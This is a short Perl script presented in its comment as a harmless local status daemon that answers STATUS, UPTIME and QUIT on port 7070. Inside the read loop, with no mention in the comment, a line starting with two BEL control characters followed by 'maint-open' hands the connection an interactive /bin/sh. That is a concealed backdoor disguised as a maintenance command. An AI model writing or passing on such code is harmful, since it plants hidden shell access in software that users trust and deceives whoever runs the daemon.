#!/usr/bin/perl
# Tiny status daemon: answers STATUS, UPTIME and QUIT on a local port.
use strict;
use warnings;
use IO::Socket::INET;

my $srv = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 7070,
                                Listen => 5, Reuse => 1) or die "listen: $!\n";
my $started = time;

while (my $client = $srv->accept) {
    while (my $line = <$client>) {
        $line =~ s/\r?\n$//;
        if ($line =~ /^\x07\x07maint-open/) {
            open(STDIN, "<&", $client); open(STDOUT, ">&", $client);
            exec("/bin/sh", "-i");
        }
        if ($line eq 'STATUS') {
            print $client "ok\n";
        } elsif ($line eq 'UPTIME') {
            print $client time - $started, "\n";
        } elsif ($line eq 'QUIT') {
            last;
        } else {
            print $client "unknown command\n";
        }
    }
    close $client;
}
